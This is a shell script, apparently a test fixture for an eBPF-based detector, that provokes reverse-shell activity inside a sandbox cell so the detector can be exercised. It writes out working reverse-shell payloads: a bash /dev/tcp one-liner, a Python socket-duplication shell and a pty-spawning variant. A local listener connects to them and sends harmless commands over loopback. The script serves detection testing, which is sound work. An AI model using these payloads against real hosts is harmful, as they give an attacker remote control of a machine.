#!/bin/sh
# Provokes reverse_shell, inside a cell: santabpf reproduce reverse_shell [--variant bash|python|pty]
# variants: bash python pty
#
#   reproduce.sh bash SECONDS     a job runs bash -i with /dev/tcp as its input and output
#   reproduce.sh python SECONDS   a python connects, puts the socket onto 0, 1 and 2, and starts sh
#   reproduce.sh pty SECONDS      the same, but bash gets a terminal of its own, which python carries to the socket
#
# Who gives the orders listens on the cell's own loopback and sends harmless commands: id, uname, ls.
# Exits 77 where bash or python3 is not installed.
set -eu
cd "${SANTABPF_CELL:?run this with: santabpf reproduce reverse_shell}"
variant=${1:?bash, python or pty} seconds=${2:?how many seconds}
for program in bash /usr/bin/python3; do
    command -v $program > /dev/null || { echo "$program is not installed here" >&2; exit 77; }
done

cat > intruder.py << 'END'
"""Listens; sends one order a second to whoever connects, then ends the shell."""
import socket, sys, time
listener = socket.create_server(("127.0.0.1", 4444))
print("ready", flush=True)
peer, _ = listener.accept()
orders = ("id", "uname -a", "ls -a", "cat /usr/lib/os-release", "ps")
for turn in range(int(sys.argv[1])):
    peer.sendall(orders[turn % len(orders)].encode() + b"\n")
    time.sleep(1)
peer.sendall(b"exit\n")
peer.settimeout(5)
try:
    while peer.recv(65536):
        pass
except OSError:
    pass
END
connect='import os, pty, socket, subprocess
s = socket.create_connection(("127.0.0.1", 4444))
for fd in (0, 1, 2): os.dup2(s.fileno(), fd)
s.close()
'
case $variant in
bash) payload="bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'" ;;
python) printf '%s%s\n' "$connect" 'subprocess.call(["/bin/sh", "-i"])' > update.py; payload="/usr/bin/python3 update.py" ;;
pty) printf '%s%s\n' "$connect" 'pty.spawn("/bin/bash")' > update.py; payload="/usr/bin/python3 update.py" ;;
*)
    echo "no variant $variant: bash, python or pty" >&2
    exit 2
    ;;
esac
# The program through which it came: it runs what it was sent, as many a web application did.
cat > report-app << END
#!/bin/sh
read -r word || true
$payload < /dev/null > /dev/null 2>&1 || true
sleep 0.2
END
chmod +x report-app
mkfifo ready
/usr/bin/python3 intruder.py "$seconds" < /dev/null > ready 2> intruder.log &
read -r word < ready
exec ./report-app
